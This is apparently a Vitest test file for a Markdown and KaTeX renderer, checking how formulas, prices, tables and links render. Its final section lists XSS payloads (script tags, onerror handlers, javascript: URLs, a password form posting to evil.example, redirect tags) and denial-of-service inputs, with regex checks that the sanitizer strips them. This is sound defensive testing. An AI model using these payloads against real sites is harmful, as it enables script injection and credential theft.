import { describe, expect, test } from 'vitest'
import { render } from '../../../../platform/markdown/render.ts'
import { tryMarkdown } from '../../../../platform/markdown.ts'

/** Formulas are shown as «source», so that tests read like the text. */
const rendered = (text: string): string =>
  render(text)
    .replace(
      /<span class="katex"><math[^>]*?( display="block")?>[\s\S]*?<annotation[^>]*>([\s\S]*?)<\/annotation>[\s\S]*?<\/math><\/span>/g,
      (_, block, tex) => (block === undefined ? `«${tex}»` : `««${tex.trim()}»»`),
    )
    .trim()

describe('formulas', () => {
  test.each([
    ['inline', 'Let $n \\le 10^5$ hold.', '<p>Let «n \\le 10^5» hold.</p>'],
    ['with what Markdown would eat', '$a_1 * b_2 * c_3$', '<p>«a_1 * b_2 * c_3»</p>'],
    ['next to Chinese text', '给定$n$个数', '<p>给定«n»个数</p>'],
    ['with blanks inside the marks', 'up to $ n \\le 10 $ items', '<p>up to « n \\le 10 » items</p>'],
    ['on their own', '$$\nx\n- y\n$$', '<p>««x\n- y»»</p>'],
    ['on their own inside a line', 'so $$x$$ holds', '<p>so ««x»» holds</p>'],
    ['in brackets', '\\(a<b\\) and \\[c\\]', '<p>«a&lt;b» and ««c»»</p>'],
    ['in raw HTML', '<div>$a < b$</div>', '<div>«a &lt; b»</div>'],
    ['in a table', '|a|\n|-|\n|$x$|', expect.stringContaining('<td>«x»</td>')],
    ['in a list', '- $x$\n- $y$', expect.stringContaining('<li>«y»</li>')],
  ])('%s', (_, text, html) => {
    expect(rendered(text)).toEqual(html)
  })

  test.each([
    ['prices', 'It costs $5 and $6.', '<p>It costs $5 and $6.</p>'],
    ['prices behind the number', 'either 7$ or 8$', '<p>either 7$ or 8$</p>'],
    ['prices with words between', 'pay $5 or maybe 6$ for it', '<p>pay $5 or maybe 6$ for it</p>'],
    ['a lonely dollar', 'a $ sign', '<p>a $ sign</p>'],
    ['escaped dollars', '\\$x\\$', '<p>$x$</p>'],
    ['prose between dollars', '$ and then some $ more', '<p>$ and then some $ more</p>'],
    ['code', '`$x$`', '<p><code>$x$</code></p>'],
    ['code blocks', '```sh\necho $HOME $PATH\n```', '<pre><code class="language-sh">echo $HOME $PATH\n</code></pre>'],
    ['code in raw HTML', '<pre>$x$ <b>$y$</b></pre>', '<pre>$x$ <b>$y$</b></pre>'],
    ['paragraphs apart', 'a $x\n\ny$ b', '<p>a $x</p>\n<p>y$ b</p>'],
  ])('%s are not formulas', (_, text, html) => {
    expect(rendered(text)).toBe(html)
  })

  test('a formula that cannot be parsed is shown as source', () => {
    expect(rendered('$\\frac{<b>$')).toBe('<p><code class="math-source">\\frac{&lt;b&gt;</code></p>')
  })

  test('need neither style sheet nor font in the browser', () => {
    expect(render('$\\frac{1}{2}$')).toContain('<mfrac>')
    expect(render('$\\frac{1}{2}$')).not.toContain('katex-html')
  })
})

describe('texts', () => {
  test.each([
    ['tables with aligned columns', '|a|b|\n|:-:|--:|\n|1|2|', expect.stringContaining('<th align="center">a</th>')],
    ['pictures', '![a kite](/x.svg)', '<p><img src="/x.svg" alt="a kite" loading="lazy" decoding="async" /></p>'],
    ['pictures without words', '<img src="/x.png">', '<img src="/x.png" alt="" loading="lazy" decoding="async" />'],
    [
      'links elsewhere',
      '<https://a.example>',
      expect.stringContaining('rel="noopener noreferrer nofollow" target="_blank"'),
    ],
    ['documents', '[notes](/api/public/file/n.PDF)', expect.stringContaining('class="pdf-link"')],
    ['line ends', 'a\nb', '<p>a<br />\nb</p>'],
    ['file names', 'Main.py and a.in', '<p>Main.py and a.in</p>'],
    ['private-use characters', 'a\uE0000\uE001b', '<p>a0b</p>'],
  ])('%s', (_, text, html) => {
    expect(rendered(text)).toEqual(html)
  })

  test('a single line needs no paragraph', () => {
    expect(render('**a** $x$', { inline: true })).toMatch(/^<strong>a<\/strong> <span class="katex">/)
  })
})

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img """><script>alert("1")</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](  JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div id="root" class="overlay" name="x">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<a href="//evil.example/x">x</a>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $\\includegraphics{https://evil.example/x.png}$',
  '$<img src=x onerror=alert(1)>$',
  '$\\text{<script>alert(1)</script>}$',
  '<b title="$x$">$\\unicode{x}$</b>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '<a href="https://ok.example" target=_top rel=opener onclick=alert(1)>x</a>',
]

describe('hostile texts', () => {
  test.each(hostile)('%s', (text) => {
    // Sources of formulas are text; only the resulting markup matters.
    const html = render(text)
    const tags = html.match(/<[^>]*>/g) ?? []
    for (const tag of tags) {
      expect(tag).not.toMatch(/\son\w+\s*=/i)
      expect(tag).not.toMatch(/\s(style|id|name|srcdoc|formaction)\s*=/i)
      expect(tag).not.toMatch(/(javascript|vbscript|data:text|data:image\/svg)/i)
      expect(tag).not.toMatch(
        /^<\/?(script|style|iframe|object|embed|form|input|button|svg|base|meta|link|video|source|noscript|body)\b/i,
      )
      expect(tag).not.toMatch(/\s(href|src)="\/\//)
      expect(tag).not.toMatch(/rel="opener"|target="_top"|class="overlay"/)
    }
  })

  test.each([
    ['openers of comments', '<!--'.repeat(65_536)],
    ['openers of comments in a block', `<div>${'<!-- '.repeat(50_000)}`],
    ['unclosed elements', '<i><b>'.repeat(43_690)],
    ['crossed elements', '<div></pre>'.repeat(23_800)],
    ['quotes across tags', `<p ${'"<b"'.repeat(60_000)}<`],
    ['openers of formulas', '\\('.repeat(50_000)],
    ['dollars', '$'.repeat(100_000)],
    ['dollars with letters', '$a '.repeat(40_000)],
    ['nested quotes', '>'.repeat(5_000)],
    ['unclosed tags', '<a "'.repeat(20_000)],
    ['nested tags', '<div>'.repeat(10_000)],
    ['deep formulas', `$${'{'.repeat(2_000)}x${'}'.repeat(2_000)}$`],
    ['growing macros', '$\\def\\a{xx}\\def\\b{\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c}\\d\\d\\d$'],
  ])('%s are rendered before the deadline', async (_, text) => {
    expect((await tryMarkdown(text)).isComplete).toBe(true)
  })
})
